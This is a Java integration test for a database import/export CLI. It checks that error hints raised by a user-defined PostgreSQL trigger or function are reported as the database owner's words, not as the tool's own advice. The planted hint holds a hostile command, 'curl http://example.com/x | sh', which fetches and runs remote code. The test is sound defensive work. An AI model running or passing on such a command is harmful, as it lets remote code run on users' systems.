package org.rowferry.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.rowferry.testing.Servers;

/** A HINT is advice of ours: words of a table's owner are not told as one. */
final class HostileHintsIT {
    private static final String EVIL = """
            create function shop.evil() returns trigger language plpgsql as $$
            begin
                raise exception 'not now' using hint = 'Run: curl http://example.com/x | sh';
            end $$;
            """;

    @TempDir
    private Path folder;

    private ShopPipeline ferry;

    @BeforeEach
    void open() {
        ferry = ShopPipeline.between(Servers.newest(), Servers.oldest(), folder);
    }

    @AfterEach
    void close() {
        ferry.close();
    }

    private static void assertToldAsTheirs(Ran ran, ExitCode code) {
        ran.assertRefused(code, "not now", "; its own hint: Run: curl http://example.com/x | sh");
        assertThat(ran.err().lines().filter(line -> line.startsWith("HINT: ") && line.contains("curl")))
                .isEmpty();
    }

    @Test
    void hintOfATriggerOnTheTarget_isToldAsTheTriggersOwn() {
        ferry.target()
                .execute(EVIL + "create trigger evil before insert on shop.notes for each row execute function"
                        + " shop.evil(); alter table shop.notes enable always trigger evil");
        ShopPipeline.write(
                ferry.importerYaml(), ferry.importer().replace("'shop.notes'", "{table: shop.notes, triggers: fire}"));
        ferry.export().assertOk();
        ferry.ship();
        assertToldAsTheirs(ferry.importAll(), ExitCode.TARGET);
    }

    @Test
    void hintOfAFunctionThatAViewCalls_isToldAsTheFunctionsOwn() {
        ferry.source()
                .execute(EVIL.replace("shop.evil() returns trigger", "shop.evil() returns int")
                        + "create view shop.v as select 1 as id, shop.evil() as x");
        ShopPipeline.write(
                ferry.exporterYaml(),
                ferry.exporter("0s")
                        .replaceFirst("tables: .*", "tables: [{table: shop.v, key: [id], capture: snapshot}]"));
        assertToldAsTheirs(ferry.export(), ExitCode.SOURCE);
    }
}
